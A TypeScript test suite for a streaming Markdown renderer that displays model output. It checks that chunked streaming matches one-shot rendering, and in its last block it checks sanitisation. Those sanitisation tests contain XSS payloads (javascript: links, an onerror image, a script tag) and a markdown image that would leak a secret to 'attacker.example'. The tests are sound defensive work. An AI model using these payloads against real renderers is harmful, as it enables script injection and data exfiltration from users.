import { expect } from '@open-wc/testing';
import { MarkdownView } from '../src/markdown/markdown-view.js';
import { seededRandom } from './support.js';

function chunk(text: string, seed: number, max: number): string[] {
  const next = seededRandom(seed);
  const parts: string[] = [];
  for (let i = 0; i < text.length; ) {
    const size = 1 + Math.floor(next() * max);
    parts.push(text.slice(i, i + size));
    i += size;
  }
  return parts;
}

async function oneShot(text: string): Promise<string> {
  const view = new MarkdownView(document.createElement('div'));
  view.update(text, true);
  await view.settled();
  return view.root.innerHTML;
}

async function streamed(parts: string[]): Promise<string> {
  const view = new MarkdownView(document.createElement('div'));
  let text = '';
  for (const part of parts) {
    text += part;
    view.update(text, false);
  }
  view.update(text, true);
  await view.settled();
  return view.root.innerHTML;
}

const documents = {
  mixed: `# Run #5 post-mortem

The run lost **$1,240** over _three_ sessions. Key causes:

1. Slippage on \`market\` orders
2. A stop-loss that was too tight
   - triggered 14 times
   - median hold: 3 min

| Session | PnL | Trades |
|---|---:|---:|
| Mon | -420 | 31 |
| Tue | -610 | 44 |

> Note: fees are included.
> They add up.

\`\`\`python
def pnl(trades):
    return sum(t.exit - t.entry for t in trades)
\`\`\`

See the [docs](https://example.com/docs) and [the guide][guide].

[guide]: https://example.com/guide "Guide"
`,
  looseList: `- one

- two
- three

Paragraph after.
`,
  codeAtEnd: 'Here:\n\n```ts\nconst x: number = 1;\nconsole.log(x);\n```',
  crlf: 'Line one\r\nline two\r\n\r\n- a\r\n- b\r\n',
  nested: `Steps:

1. Install
   1. \`npm ci\`
   2. \`npm test\`
      - needs **Chromium**
      - or _Playwright's_ own
2. Run the demo

* star list
* with ~~struck~~ text and a [link](https://example.com/a_b)
`,
  languages: `~~~bash
npm run bench -- --quick
~~~

\`\`\`typescript
export const answer: number = 42;
\`\`\`

\`\`\`json
{ "run": 5, "pnl": -1842.6 }
\`\`\`

\`\`\`unknown-lang
no grammar here
\`\`\`
Trailing paragraph right after a fence.`,
  emphasisHeavy: 'A **bold** word, an _italic_ one, ***both***, \`code with ** stars\`, snake_case_name, 2 * 3 * 4, and **a [link](https://x.y) inside**.',
  setextAtEnd: 'Title\n=====\n\nSubtitle\n---',
  tableAtEnd: '| a | b |\n|:--|--:|\n| 1 | 2 |\n| 3 | 4 |',
};

describe('MarkdownView', () => {
  for (const [name, text] of Object.entries(documents)) {
    it(`streams "${name}" in random chunkings to the same DOM as a one-shot render`, async () => {
      const expected = await oneShot(text);
      expect(expected).to.not.equal('');
      for (const [seed, max] of [[1, 1], [2, 3], [3, 8], [4, 40], [5, 200]]) {
        expect(await streamed(chunk(text, seed, max)), `seed ${seed}, max ${max}`).to.equal(expected);
      }
    });
  }

  it('never shows a raw ** marker or a link to a partial URL mid-stream', async () => {
    for (const [name, text] of Object.entries(documents)) {
      const final = await oneShot(text);
      const finalHrefs = new Set(Array.from(new DOMParser().parseFromString(final, 'text/html').querySelectorAll('a')).map((a) => a.getAttribute('href')));
      const view = new MarkdownView(document.createElement('div'));
      for (let i = 1; i <= text.length; i++) {
        view.update(text.slice(0, i), false);
        const shown = view.root.textContent ?? '';
        if (!final.includes('**')) expect(shown.includes('**'), `${name} at ${i}: ${shown.slice(-40)}`).to.be.false;
        for (const a of Array.from(view.root.querySelectorAll('a'))) {
          expect(finalHrefs.has(a.getAttribute('href')), `${name} at ${i}: link to ${a.getAttribute('href')}`).to.be.true;
        }
      }
    }
  });

  it('never re-renders a finished block', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('First paragraph.\n\nSecond', false);
    const first = view.root.querySelector('p')!;
    expect(first.textContent).to.equal('First paragraph.');
    view.update('First paragraph.\n\nSecond paragraph grows', false);
    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list', false);
    view.update('First paragraph.\n\nSecond paragraph grows\n\n- and a list\n', true);
    expect(view.root.querySelector('p')).to.equal(first);
    expect(view.root.contains(first)).to.be.true;
  });

  it('renders an unterminated fence as an open code block, plain, with a cursor', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('Code:\n\n```python\ndef f():\n    return 1', false);
    const code = view.root.querySelector('.code-block pre code')!;
    expect(code.textContent).to.contain('def f():');
    expect(code.classList.contains('hljs')).to.be.false;
    expect(view.root.querySelector('.code-block .cursor')).to.exist;
  });

  it('highlights a closed block once its grammar loads, and removes the cursor at the end', async () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('```python\ndef f():\n    return 1\n```\n', true);
    await view.settled();
    expect(view.root.querySelector('code.hljs .hljs-keyword')!.textContent).to.equal('def');
    expect(view.root.querySelector('.cursor')).to.be.null;
    expect(view.root.querySelector('.code-language')!.textContent).to.equal('python');
  });

  it('resolves a reference link whose definition arrives after its use', async () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('See [the guide][g].\n\nMore text.\n\n', false);
    expect(view.root.querySelector('a')).to.be.null;
    view.update('See [the guide][g].\n\nMore text.\n\n[g]: https://example.com/g\n', true);
    expect(view.root.querySelector('a')!.getAttribute('href')).to.equal('https://example.com/g');
  });

  it('starts over when the text is replaced rather than extended', () => {
    const view = new MarkdownView(document.createElement('div'));
    view.update('Old answer.\n\nMore', false);
    view.update('New answer.', true);
    expect(view.root.textContent!.trim()).to.equal('New answer.');
  });
});

describe('sanitizing model output', () => {
  function render(text: string): HTMLElement {
    const view = new MarkdownView(document.createElement('div'));
    view.update(text, true);
    return view.root;
  }

  it('drops javascript:, vbscript: and data: link targets in any spelling', () => {
    const root = render(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](vbscript:msgbox) [d](data:text/html,<script>alert(1)</script>) [e](&#106;avascript:alert(1))',
    );
    for (const a of Array.from(root.querySelectorAll('a'))) {
      const href = a.getAttribute('href');
      expect(href === null || /^(https?:|mailto:|[^:]*$)/i.test(href), `href ${href}`).to.be.true;
    }
  });

  it('opens links in a new tab without an opener', () => {
    const a = render('[docs](https://example.com)').querySelector('a')!;
    expect(a.target).to.equal('_blank');
    expect(a.rel).to.equal('noopener noreferrer');
  });

  it('shows raw HTML as text and runs nothing', () => {
    const root = render('<img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>\n\n<div onclick="x()">hi</div>');
    expect(root.querySelector('img, script, div[onclick]')).to.be.null;
    expect(root.textContent).to.contain('<img src=x');
    expect((window as unknown as { __pwned?: number }).__pwned).to.be.undefined;
  });

  it('does not fetch images; they become placeholders the user clicks to load', () => {
    const root = render('![chart](https://attacker.example/leak?q=secret)');
    expect(root.querySelector('img')).to.be.null;
    const placeholder = root.querySelector<HTMLAnchorElement>('a.image-placeholder')!;
    expect(placeholder.textContent).to.equal('🖼 chart — load image');
    expect(placeholder.dataset.src).to.equal('https://attacker.example/leak?q=secret');
  });
});
